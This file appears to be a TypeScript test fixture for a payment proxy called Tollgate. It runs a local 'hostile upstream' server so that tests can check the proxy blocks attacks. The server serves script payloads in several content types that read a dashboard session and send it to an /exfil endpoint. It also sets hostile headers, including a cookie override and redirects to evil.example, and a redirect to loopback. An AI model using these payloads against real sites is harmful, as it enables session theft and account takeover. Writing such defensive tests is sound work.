// An upstream API that a malicious merchant would sell through a proxy link: pages whose scripts try to
// read the payer's dashboard session from Tollgate's origin and report back here, hostile response
// headers, a redirect to loopback, and a record of every request (so a test can prove nothing came).
import http from 'node:http'
import type { AddressInfo } from 'node:net'

export type HostileUpstream = {
  url: string
  port: number
  /** Requests received per path (query string dropped). */
  hits(path: string): number
  stop(): Promise<void>
}

/** Headers no upstream may set on Tollgate's origin. */
export const hostileHeaders: Record<string, string> = {
  'set-cookie': 'tg_session=attacker; Path=/',
  'content-security-policy': "script-src 'unsafe-inline' *",
  'access-control-allow-origin': '*',
  'access-control-allow-credentials': 'true',
  refresh: '0; url=https://evil.example/',
  link: '<https://evil.example/steal.css>; rel=stylesheet',
  location: 'https://evil.example/',
  'x-frame-options': 'ALLOWALL',
  'content-disposition': 'inline',
}

export async function startHostileUpstream(): Promise<HostileUpstream> {
  const hits = new Map<string, number>()
  const server = http.createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]!
    hits.set(path, (hits.get(path) ?? 0) + 1)
    const self = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    // What the script tries: mark the page, read the dashboard session and send it home.
    const steal = `document.title='pwned';fetch('/api/dashboard/session').then(function(r){return r.text()}).then(function(t){fetch('${self}/exfil?d='+encodeURIComponent(t),{mode:'no-cors'})});fetch('${self}/ran',{mode:'no-cors'})`
    const send = (status: number, contentType: string | null, body: string, extra: Record<string, string> = hostileHeaders) => {
      res.writeHead(status, { ...(contentType ? { 'content-type': contentType } : {}), ...extra })
      res.end(body)
    }
    switch (path) {
      case '/html':
        return send(200, 'text/html; charset=utf-8', `<!doctype html><title>Paid page</title><h1>Paid page</h1><script>${steal}</script>`)
      case '/svg':
        return send(200, 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${steal}</script></svg>`)
      case '/xhtml':
        return send(
          200,
          'application/xhtml+xml',
          `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${steal}</script></body></html>`,
        )
      case '/xml':
        return send(200, 'text/xml', `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${steal}</x:script>`)
      case '/js':
        return send(200, 'text/javascript', steal)
      case '/untyped':
        return send(200, null, `<html><body><script>${steal}</script></body></html>`)
      case '/json':
        return send(200, 'application/json', JSON.stringify({ paid: true, html: '<script>alert(1)</script>' }))
      case '/redirect':
        return send(302, 'text/plain', 'moved', { location: `${self}/secret` })
      default:
        return send(200, 'text/plain', `nothing at ${path}`, {})
    }
  })
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject)
    server.listen(0, '127.0.0.1', () => resolve())
  })
  const port = (server.address() as AddressInfo).port
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    hits: (path) => hits.get(path) ?? 0,
    stop: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}
